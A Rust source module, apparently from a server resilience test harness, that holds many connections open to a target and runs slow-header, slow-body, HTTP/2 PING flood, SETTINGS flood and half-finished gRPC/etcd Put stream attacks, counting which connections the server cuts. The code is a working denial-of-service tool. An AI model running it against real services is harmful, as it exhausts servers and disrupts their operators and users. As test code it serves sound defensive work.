//! Hostile connections, each of one kind. One thread has many of them and lets each do a little, again and again; a
//! closed one is opened again.

use super::connect;
use std::io::{self, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::Duration;

const PATIENCE: Duration = Duration::from_secs(5);
/// Between two rounds over all connections of a thread.
const ROUND_PAUSE: Duration = Duration::from_millis(200);
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
const STREAMS: u32 = 100;

#[derive(Clone, Copy)]
enum Kind {
    Idle,
    SlowHead,
    SlowBody,
    Pings,
    Settings,
    /// Requests of HTTP/2 that never become complete.
    Partial,
}

const KINDS: [Kind; 6] =
    [Kind::Idle, Kind::SlowHead, Kind::SlowBody, Kind::Pings, Kind::Settings, Kind::Partial];

pub struct Attacker {
    addresses: [SocketAddr; 2],
    connections: usize,
    nth: usize,
}

impl Attacker {
    pub fn new(addresses: [SocketAddr; 2], connections: usize, nth: usize) -> Attacker {
        Attacker { addresses, connections, nth }
    }

    pub fn run(&self, stop: &AtomicBool, cut: &AtomicUsize) {
        let mut open: Vec<Option<TcpStream>> = (0..self.connections).map(|_| None).collect();
        while !stop.load(Ordering::Relaxed) {
            for (at, place) in open.iter_mut().enumerate() {
                if stop.load(Ordering::Relaxed) {
                    return;
                }
                let kind = KINDS[(at + self.nth) % KINDS.len()];
                let address = self.addresses[at / KINDS.len() % 2];
                *place = match place.take() {
                    None => begin(address, kind).ok(),
                    Some(stream) => {
                        let kept = go_on(stream, kind);
                        cut.fetch_add(usize::from(kept.is_none()), Ordering::Relaxed);
                        kept
                    }
                };
            }
            std::thread::sleep(ROUND_PAUSE);
        }
    }
}

fn begin(address: SocketAddr, kind: Kind) -> io::Result<TcpStream> {
    let mut stream = connect(address, PATIENCE)?;
    stream.write_all(&opening(kind))?;
    // From here on nothing waits.
    stream.set_nonblocking(true)?;
    Ok(stream)
}

fn opening(kind: Kind) -> Vec<u8> {
    match kind {
        Kind::Idle => Vec::new(),
        Kind::SlowHead => b"GET /health HTTP/1.1\r\nhost: ".to_vec(),
        Kind::SlowBody => b"PUT /v1/data/a HTTP/1.1\r\nhost: a\r\ncontent-length: 1000000\r\n\r\n".to_vec(),
        Kind::Pings => PREFACE.to_vec(),
        Kind::Settings | Kind::Partial => {
            let heads = (0..STREAMS).flat_map(|nth| put_head(2 * nth + 1));
            PREFACE.iter().copied().chain(heads).collect()
        }
    }
}

/// A little more of it. None when the other side has closed it.
fn go_on(mut stream: TcpStream, kind: Kind) -> Option<TcpStream> {
    let more = match kind {
        Kind::Idle => Vec::new(),
        Kind::SlowHead | Kind::SlowBody => vec![b'a'],
        Kind::Pings => frame(6, 0, 0, &[0; 8]).repeat(200),
        // As many windows as one frame takes.
        Kind::Settings => frame(4, 0, 0, &[0, 4, 0, 0, 0xff, 0xff].repeat(2_730)).repeat(2),
        Kind::Partial => (0..STREAMS).flat_map(|nth| frame(0, 0, 2 * nth + 1, &[7; 1_000])).collect(),
    };
    let written = stream.write(&more);
    let read = stream.read(&mut [0; 16 * 1024]);
    let lives = |outcome: io::Result<usize>, none_is_end: bool| match outcome {
        Ok(0) => !none_is_end,
        Ok(_) => true,
        Err(error) => error.kind() == io::ErrorKind::WouldBlock,
    };
    (lives(written, false) && lives(read, true)).then_some(stream)
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = (payload.len() as u32).to_be_bytes();
    [&len[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The head of a put, whose body is to follow.
fn put_head(stream: u32) -> Vec<u8> {
    let mut fields = vec![0x83, 0x86];
    for (name, value) in [(":path", "/etcdserverpb.KV/Put"), ("content-type", "application/grpc")] {
        fields.push(0);
        for text in [name, value] {
            fields.push(text.len() as u8);
            fields.extend_from_slice(text.as_bytes());
        }
    }
    frame(1, 4, stream, &fields)
}
